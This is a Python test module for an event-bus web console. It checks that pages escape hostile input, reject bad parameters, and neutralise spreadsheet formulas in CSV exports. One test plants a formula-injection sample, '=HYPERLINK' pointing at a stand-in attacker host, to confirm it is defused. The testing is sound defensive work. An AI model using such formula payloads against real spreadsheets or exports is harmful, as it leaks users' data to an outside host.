"""The pages on the bus, dead letters, queries, contracts and activity, in this process."""

import csv
import io
import json
from collections.abc import Iterator
from html import unescape
from urllib.parse import urlencode

import pytest

from infra.console import pages as console_pages
from infra.console import rendering
from tests.fakes.console import Visitor, serving
from tests.fakes.console_pages import (
    HOSTILE,
    Outline,
    check_safe,
    seqs,
    serving_hostile_events,
)


@pytest.fixture(scope="module")
def visitor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    """Serve a platform with a few orders, hostile events and dead letters."""
    with serving_hostile_events(tmp_path_factory.mktemp("pages") / "data") as served:
        yield served


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    """Serve a platform without anything in it."""
    with serving(tmp_path_factory.mktemp("empty") / "data") as served:
        yield served


PAGES = [
    "/console/bus",
    "/console/bus/rules",
    "/console/bus/rules/HighValueRule",
    "/console/dead-letters",
    "/console/dead-letters?by=queue",
    "/console/dead-letters?by=consumer",
    "/console/dead-letters/closed",
    "/console/replays",
    "/console/replays/new",
    "/console/activity",
    "/console/queries",
    "/console/contracts",
    "/console/contracts/check",
    "/console/contracts/order-created",
    "/console/contracts/order-failed",
    "/console/contracts/order-created/send",
]


@pytest.mark.parametrize("path", PAGES)
def test_a_page_shows_hostile_text_as_text_and_its_links_lead_to_pages(
    visitor: Visitor, path: str
) -> None:
    page = visitor.get(path)
    assert page.status == 200, page.text
    for link in sorted(set(check_safe(page).links)):
        if link.startswith("#") or "/orders" in link or "/queries/" in link:
            continue
        target = visitor.get(link.partition("#")[0])
        assert target.status in (200, 303), link
        check_safe(target) if target.headers["content-type"].startswith("text/html") else None


@pytest.mark.parametrize("path", PAGES)
def test_the_live_part_of_a_page_is_rendered_alone(visitor: Visitor, path: str) -> None:
    part = visitor.get(path, {"hx-target": "div#live"})
    assert part.status == 200, part.text
    assert "<html" not in part.text
    links = [
        link
        for link in Outline(part.text).links
        if "/console/bus/" in link or "/dead-letters/" in link
    ]
    for link in sorted(set(links))[:30]:
        assert visitor.get(link, {"hx-target": "div#live"}).status == 200, link


@pytest.mark.parametrize("path", PAGES)
def test_a_page_of_an_empty_directory_says_what_would_fill_it(empty: Visitor, path: str) -> None:
    page = empty.get(path)
    assert page.status == 200, page.text
    check_safe(page)


@pytest.mark.parametrize(
    ("path", "status", "words"),
    [
        ("/console/bus?pattern=nonsense", 400, "pattern:"),
        ("/console/bus?before=x", 400, "no number of an event"),
        ("/console/bus?before=99999999999999999999", 400, "no number of an event"),
        ("/console/bus?at=yesterday", 400, "2026-01-31T12:00:00Z"),
        ("/console/bus/0", 404, "has no event"),
        ("/console/bus/abc", 400, "no number of an event"),
        ("/console/bus/rules/None", 404, "HighValueRule"),
        ("/console/bus/events.csv?pattern=%7B", 400, "pattern:"),
        ("/console/dead-letters?by=colour", 400, "reason, queue, consumer"),
        ("/console/dead-letters/99999", 404, "there is no dead letter"),
        ("/console/dead-letters/-1", 400, "no number of a dead letter"),
        ("/console/dead-letters/groups/reason/none", 200, "no open dead letter"),
        ("/console/dead-letters/groups/reason/none/shred?newest=1", 400, "redrive, discard"),
        ("/console/dead-letters/groups/reason/none/redrive", 400, "no number"),
        ("/console/replays/none", 404, "no replay"),
        ("/console/replays/new?start=yesterday", 400, "from: 'yesterday' is no time"),
        ("/console/replays/new?start=2026-01-01T00:00:00&end=2025-01-01T00:00:00", 400, "to:"),
        ("/console/replays/new?rules=None", 400, "HighValueRule"),
        ("/console/replays/new?rate=fast", 400, "events a second"),
        ("/console/replays/new?rate=nan", 400, "events a second"),
        ("/console/replays/new?name=a/b", 400, "name:"),
        ("/console/activity?after=7", 400, "no cursor"),
        ("/console/contracts/none", 404, "no event is named"),
        ("/console/contracts/order-failed/send", 400, "is a fact"),
        ("/console/queries/none", 404, "no query is named"),
        ("/console/queries/revenue_by_day?since=yesterday", 400, "a day such as"),
        ("/console/queries/sql?q=drop", 400, "no SELECT"),
        ("/console/queries/sql?q=select%201&dialect=perl", 400, "athena or duckdb"),
        ("/console/queries/sql?q=select%201&format=xml", 400, "csv or ndjson"),
    ],
)
def test_bad_input_is_one_page_with_the_way_out(
    visitor: Visitor, path: str, status: int, words: str
) -> None:
    page = visitor.get(path)
    assert page.status == status
    assert words in unescape(page.text)
    check_safe(page)


@pytest.mark.parametrize("field", ["type", "source", "order", "pattern", "at", "before"])
def test_every_filter_of_the_bus_may_be_hostile(visitor: Visitor, field: str) -> None:
    page = visitor.get(f"/console/bus?{urlencode({field: HOSTILE})}")
    assert page.status in (200, 400)
    check_safe(page)


def test_every_page_of_the_navigation_has_an_icon() -> None:
    icons = (rendering.STATIC / "icons.svg").read_text(encoding="utf-8")
    for page in console_pages.PAGES:
        assert not page.title or f'id="{page.icon}"' in icons, page.name


# ---- the bus


def test_an_event_says_which_condition_of_each_rule_failed(visitor: Visitor) -> None:
    page = visitor.get(f"/console/bus/{seqs(visitor)[0]}")
    text = " ".join(unescape(page.text).split())
    assert "<code>detail.total</code> wants >= 1000, has 12.5" in text
    assert "OrderCreatedRule" in text
    assert "keeps its contract" in text


def test_a_tried_pattern_has_its_verdict_and_its_recent_matches(visitor: Visitor) -> None:
    pattern = '{"detail": {"order_id": ["A-1"]}}'
    first = seqs(visitor)[0]
    text = visitor.get(f"/console/bus/{first}?{urlencode({'pattern': pattern})}").text
    assert "of the newest" in text
    wrong = visitor.get(f"/console/bus/{first}?{urlencode({'pattern': '{'})}")
    assert 'id="tried-problem"' in wrong.text


def test_the_list_is_filtered_and_saved_as_it_is_shown(visitor: Visitor) -> None:
    query = urlencode({"order": "A-1"})
    saved = visitor.get(f"/console/bus/events.ndjson?{query}")
    lines = [json.loads(line) for line in saved.text.splitlines()]
    assert {line["detail"]["order_id"] for line in lines} == {"A-1"}
    page = visitor.get(f"/console/bus?{query}")
    assert page.text.count("data-row") == len(lines)
    assert len(visitor.get(f"/console/bus/events.csv?{query}").text.splitlines()) == len(lines) + 1
    assert "attachment" in saved.headers["content-disposition"]


def test_no_saved_text_of_a_sender_is_a_formula(visitor: Visitor) -> None:
    formula = '=HYPERLINK("https://evil.example/"&A1)'
    visitor.host.put({"source": "+1", "detail-type": formula, "detail": {"order_id": "@SUM(1)"}})
    text = visitor.get("/console/bus/events.csv?order=%40SUM(1)").text
    [row] = csv.DictReader(io.StringIO(text))
    found = (row["type"], row["source"], row["order_id"])
    assert found == (f"'{formula}", "'+1", "'@SUM(1)")
    query = urlencode({"q": "select '=1+1' as x, -5 as y", "dialect": "duckdb", "format": "csv"})
    assert visitor.get(f"/console/queries/sql?{query}").text == "x,y\n'=1+1,-5\n"


def test_an_event_without_a_contract_names_its_problems(visitor: Visitor) -> None:
    [seq] = [
        row[0]
        for row in visitor.rows(
            "select seq from events where order_id = 'BAD-1' and detail_type = 'Order Created'"
        )
    ]
    page = visitor.get(f"/console/bus/{seq}")
    assert "breaks its contract" in page.text
    assert "detail.currency" in page.text
    check_safe(page)
